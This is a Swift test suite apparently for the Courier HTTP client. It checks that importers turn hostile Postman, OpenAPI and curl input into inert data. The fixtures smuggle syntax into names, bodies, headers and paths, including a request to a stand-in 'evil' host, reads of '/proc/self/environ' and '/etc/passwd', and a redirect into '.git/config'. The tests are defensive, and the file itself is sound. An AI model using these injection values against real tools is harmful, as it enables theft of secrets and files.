import CourierHTTP
import CourierMessage
import Foundation
import Testing
@testable import CourierCollections

/// Imports write data, never `.http` syntax: hostile names, paths, headers, variables and bodies from a
/// Postman collection, an OpenAPI description or a curl command read back as exactly what was imported.
@Suite("imports write data, never syntax")
struct ImportWriterTests {
    /// The name from issue 33 that became three extra lines of syntax: a request to an attacker, a body
    /// read from the process environment, and a redirect of the response into `.git/config`.
    static let hostileName = "x\nPOST http://evil/steal\n\n< /proc/self/environ\n\n>>! ./.git/config\n\n###"

    private func postman(_ items: [[String: Any]], variables: [[String: Any]] = [],
                         name: String = "Hostile") throws -> PostmanConversion {
        let collection: [String: Any] = [
            "info": ["name": name, "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"],
            "variable": variables, "item": items,
        ]
        return try PostmanImporter.convert(try JSONSerialization.data(withJSONObject: collection))
    }

    private func parsed(_ files: [ImportOutput.File], _ name: String) throws -> HTTPFile {
        let text = try #require(files.first { $0.name == name }?.text)
        let file = HTTPFile(path: name, text: text)
        #expect(file.diagnostics.isEmpty, "\(file.diagnostics)\n\(text)")
        return file
    }

    /// Nothing but what an importer writes: no tags, no saved responses, no scripts, no prompts.
    private func expectNoSyntax(_ request: RequestTemplate) {
        #expect(request.tags.isEmpty && request.unsupported.isEmpty && request.scripts.isEmpty
                && request.prompts.isEmpty && request.runs.isEmpty, "\(request)")
    }

    @Test func aPostmanNameWithNewlinesStaysOneRequestWithThatNameOnOneLine() throws {
        // Given the hostile name on a request and on the collection, and a description full of syntax
        let result = try postman([["name": Self.hostileName, "request": [
            "method": "GET", "url": "http://api.test/first",
            "description": "@insecure\n###\nPOST http://evil/desc\n>> ./out",
        ]]], name: Self.hostileName)
        // When the file is read back
        let file = try parsed(result.files, result.files[0].name)
        // Then it holds the one request, named with the whole name on one line, and nothing else
        #expect(file.requests.count == 1)
        let request = try #require(file.requests.first)
        #expect(request.name == "x POST http://evil/steal < /proc/self/environ >>! ./.git/config ###")
        #expect(request.method == .get && request.url == "http://api.test/first" && request.body == .none)
        expectNoSyntax(request)
        #expect(file.fileVariables.isEmpty)
        #expect(!file.text.contains("\n###\nPOST") && !file.text.contains("\n< /proc"))
        // And the description stays, as comments that cannot become tags
        #expect(file.text.contains("# \\@insecure\n# ###\n# POST http://evil/desc\n# >> ./out\n"))
    }

    @Test func aBodyWithSyntaxLinesGoesToASideFileAndIsSentByteForByte() throws {
        // Given a raw body whose lines are separators, a file reference and redirects
        let body = "line1\n###\nPOST http://evil/steal\n\n< /proc/self/environ\n\n>>! ./.git/config\n\n"
        let result = try postman([["name": "upload", "request": [
            "method": "POST", "url": "http://api.test/upload",
            "body": ["mode": "raw", "raw": body, "options": ["raw": ["language": "text"]]],
        ]]])
        // Then the request names a side file beside it, which holds the body exactly
        let file = try parsed(result.files, "Hostile.http")
        #expect(file.requests.count == 1)
        #expect(file.requests[0].body == .file(path: "./Hostile.1.txt", substituteVariables: false))
        expectNoSyntax(file.requests[0])
        #expect(result.files.first { $0.name == "Hostile.1.txt" }?.text == body)
        #expect(result.files.map(\.name) == ["Hostile.http", "Hostile.1.txt"])
    }

    @Test func headersAndVariablesWithLineBreaksAreFoldedAndBadHeaderNamesLeftOut() throws {
        let result = try postman([["name": "h", "request": [
            "method": "GET", "url": "{{base}}/h",
            "header": [["key": "X-A", "value": "1\r\nX-Injected: 2"], ["key": "Bad Name\n###", "value": "v"],
                       ["key": "#comment", "value": "v"], ["key": "&continued", "value": "v"]],
        ]]], variables: [["key": "base", "value": "http://api.test\n###\nPOST http://evil/var"]])
        let file = try parsed(result.files, "Hostile.http")
        #expect(file.requests.count == 1)
        #expect(file.requests[0].headers == HTTPHeaders([("X-A", "1 X-Injected: 2")]))
        #expect(file.fileVariables == [VariableDefinition(name: "base", value: "http://api.test ### POST http://evil/var")])
        #expect(result.notes.contains("h: header X-A had line breaks; each became a space"))
        #expect(result.notes.contains { $0.contains("'Bad Name ###' is not an HTTP token") })
        #expect(result.notes.count == 5, "\(result.notes)")
    }

    @Test func onlyPostmansOwnVariablesStayVariables() throws {
        // Given Postman text that uses its variables and text that only Courier would read as variables
        let result = try postman([["name": "v", "request": [
            "method": "POST", "url": "{{base}}/v?id={{$guid}}&home={{$processEnv HOME}}",
            "header": [["key": "X-Env", "value": "{{token}}{{$processEnv HOME}}"],
                       ["key": "X-Prev", "value": "{{login.response.body.token}}"]],
            "body": ["mode": "raw", "raw": "{\"home\": \"{{$dotenv SECRET}}\", \"user\": \"{{user}}\"}"],
        ]]], variables: [["key": "leak", "value": "{{$processEnv HOME}}"], ["key": "base", "value": "http://api.test"]])
        let file = try parsed(result.files, "Hostile.http")
        #expect(file.requests[0].url == "{{base}}/v?id={{$guid}}&home=%7B%7B$processEnv%20HOME%7D%7D")
        // When it is resolved in a process whose HOME is a secret
        let context = VariableContext(overrides: ["token": "T", "user": "ada"], processEnvironment: ["HOME": "/secret"],
                                      dynamic: .fixed)
        let resolved = try Resolver(file: file, baseFolder: URL(fileURLWithPath: "/"), context: context)
            .resolve(file.requests[0])
        // Then the secret is nowhere: the text that would have read it is sent as the data it was
        #expect(resolved.request.url.absoluteString
                == "http://api.test/v?id=00000000-0000-4000-8000-000000000000&home=%7B%7B$processEnv%20HOME%7D%7D")
        #expect(resolved.request.headers["X-Env"] == "T{{$processEnv HOME}}")
        #expect(resolved.request.headers["X-Prev"] == "{{login.response.body.token}}")
        #expect(resolved.request.body.data == Data("{\"home\": \"{{$dotenv SECRET}}\", \"user\": \"ada\"}".utf8))
        // And a collection variable holding such text is that text when used
        var interpolator = Interpolator(requestName: "v", local: [], file: file.fileVariables,
                                        context: VariableContext(processEnvironment: ["HOME": "/secret"]))
        #expect(try interpolator.expand("{{leak}}") == "{{$processEnv HOME}}")
    }

    @Test func multipartValuesThatLookLikeFileLinesGoToSideFilesAndBadPathsAreLeftOut() throws {
        let result = try postman([["name": "form", "request": [
            "method": "POST", "url": "http://api.test/form",
            "body": ["mode": "formdata", "formdata": [
                ["key": "a\"b\nc", "value": "v\n< /etc/passwd"],
                ["key": "ok", "value": "plain"],
                ["key": "f", "type": "file", "src": "/tmp/x\n###\nGET http://evil"],
            ]],
        ]]])
        let file = try parsed(result.files, "Hostile.http")
        #expect(file.requests.count == 1)
        #expect(file.requests[0].body == .text("""
            --PostmanFormBoundary
            Content-Disposition: form-data; name="a%22b%0Ac"

            < ./Hostile.1.txt
            --PostmanFormBoundary
            Content-Disposition: form-data; name="ok"

            plain
            --PostmanFormBoundary--
            """))
        #expect(result.files.first { $0.name == "Hostile.1.txt" }?.text == "v\n< /etc/passwd")
        #expect(result.notes.contains { $0.contains("file of part 'f'") && $0.contains("part left out") })
    }

    @Test func aScriptSavedWithCRLFIsKeptAndOneWithAnotherLineBreakIsLeftOut() throws {
        let result = try postman([
            ["name": "crlf", "event": [["listen": "test", "script": ["exec": "pm.test('a', () => {});\r\nlet b = 1;\r\n"]]],
             "request": ["method": "GET", "url": "http://api.test/a"]],
            ["name": "ls", "event": [["listen": "test", "script": ["exec": ["let a = 1;\u{2028}###", "let b = 2;"]]]],
             "request": ["method": "GET", "url": "http://api.test/b"]],
        ])
        let file = try parsed(result.files, "Hostile.http")
        #expect(file.requests.map(\.name) == ["crlf", "ls"])
        #expect(file.requests[0].scripts.map(\.source) == [.inline("\n    pm.test('a', () => {});\n    let b = 1;\n\n")])
        #expect(file.requests[1].scripts.isEmpty)
        #expect(result.notes == ["ls: a script contains '%}', a '###' line or a line break other than a newline; "
                                 + "script left out"])
    }

    @Test func aMethodThatIsNotOneWordIsLeftOutAndSaidSo() throws {
        let result = try postman([
            ["name": "m", "request": ["method": "GET http://evil/ HTTP/1.1\n###", "url": "http://api.test/m"]],
            ["name": "ws", "request": ["method": "WEBSOCKET", "url": "http://api.test/ws"]],
            ["name": "ok", "request": ["method": "purge", "url": "http://api.test/ok"]],
            ["name": " ", "request": ["method": "GET /x", "url": "http://api.test/e"]],
        ])
        let file = try parsed(result.files, "Hostile.http")
        #expect(file.requests.map(\.name) == ["ok"])
        #expect(file.requests[0].method == HTTPMethod("PURGE"))
        #expect(result.notes.filter { $0.contains("request left out") }.count == 3)
        // (a request without a name is named in its note by its method and URL)
        #expect(result.notes.last?.hasPrefix("GET /x http://api.test/e: method 'GET /x'") == true, "\(result.notes)")
    }

    @Test func anOpenAPIPathWithNewlinesIsOnePercentEncodedURL() throws {
        // Given a path key that carries a second request, and a summary and example that carry more
        let description: [String: Any] = [
            "openapi": "3.0.0", "info": ["title": "T\n###\nGET http://evil/title", "version": "1"],
            "servers": [["url": "http://api.test/{region}", "variables": ["region": ["default": "{{$processEnv HOME}}"]]]],
            "paths": ["/pets/{id}\nPOST http://evil/steal\n\n< /proc/self/environ\n\n###": [
                "get": ["operationId": "getPet", "summary": "Get\n###\nDELETE http://evil/x",
                        "parameters": [["name": "id", "in": "path", "required": true,
                                        "example": "7\n###\nGET http://evil/param"],
                                       ["name": "X-Trace", "in": "header", "required": true,
                                        "example": "{{$processEnv HOME}}"]],
                        "responses": ["200": ["description": "ok"]]],
                "post": ["operationId": "addPet",
                         "requestBody": ["content": ["text/plain": ["example": "a\n###\n>> ./x\n< /etc/passwd"]]],
                         "responses": ["200": ["description": "ok"]]],
            ]],
        ]
        let conversion = try OpenAPIImporter.convert(try JSONSerialization.data(withJSONObject: description))
        #expect(conversion.requestCount == 2)
        let name = try #require(conversion.files.first { $0.name.hasSuffix(".http") }?.name)
        let file = try parsed(conversion.files, name)
        // Then there are exactly the two operations, each on one request line
        #expect(file.requests.map(\.name) == ["getPet", "addPet"])
        #expect(file.requests[0].url
                == "{{baseUrl}}/pets/{{id}}%0APOST%20http://evil/steal%0A%0A%3C%20/proc/self/environ%0A%0A%23%23%23")
        for request in file.requests { expectNoSyntax(request) }
        #expect(file.requests[0].variables.first == VariableDefinition(name: "id", value: "7 ### GET http://evil/param"))
        #expect(file.requests[0].variables.last
                == VariableDefinition(name: "X-Trace", value: "{{lbrace}}{$processEnv HOME}}"))
        // And the text body went to a side file, and the server's variable is data in the environment
        #expect(file.requests[1].body == .file(path: "./\(name.dropLast(5)).1.txt", substituteVariables: false))
        #expect(conversion.files.contains { $0.text == "a\n###\n>> ./x\n< /etc/passwd" })
        #expect(conversion.environment.contains("http://api.test/%7B%7B$processEnv%20HOME%7D%7D"), "\(conversion.environment)")
    }

    @Test func aCurlBodyWithSyntaxGoesBesideTheFileAndAHostileNameStaysOnOneLine() throws {
        let imported = try CurlImporter.convert("curl http://api.test/c -H 'X-A: 1' --data-binary $'a\\n###\\nGET http://evil'",
                                                name: "c\n###\nGET http://evil/name")
        let block = ImportWriter.block(imported.imported, sideFileStem: "calls", isTaken: { $0 == "calls.1.txt" })
        let text = try #require(block.text)
        #expect(block.sideFiles == [ImportOutput.File(name: "calls.2.txt", text: "a\n###\nGET http://evil")])
        let file = HTTPFile(path: "calls.http", text: "# mine\n\n" + text)
        #expect(file.diagnostics.isEmpty)
        #expect(file.requests.count == 1)
        #expect(file.requests[0].name == "c ### GET http://evil/name")
        #expect(file.requests[0].body == .file(path: "./calls.2.txt", substituteVariables: false))
    }

    @Test func aBraceOfDataInACurlHeaderIsDefinedInTheBlockItself() throws {
        let imported = try CurlImporter.convert("curl http://api.test/c -H 'X-A: {{$processEnv HOME}}'")
        let text = try #require(ImportWriter.block(imported.imported, sideFileStem: "c", isTaken: { _ in false }).text)
        let file = HTTPFile(path: "c.http", text: "# mine\n@lbrace = x\n\n" + text)
        let resolved = try Resolver(file: file, baseFolder: URL(fileURLWithPath: "/"),
                                    context: VariableContext(processEnvironment: ["HOME": "/secret"]))
            .resolve(file.requests[0])
        #expect(resolved.request.headers["X-A"] == "{{$processEnv HOME}}")
    }
}

private extension RequestBody {
    var data: Data? { if case .data(let data) = self { data } else { nil } }
}
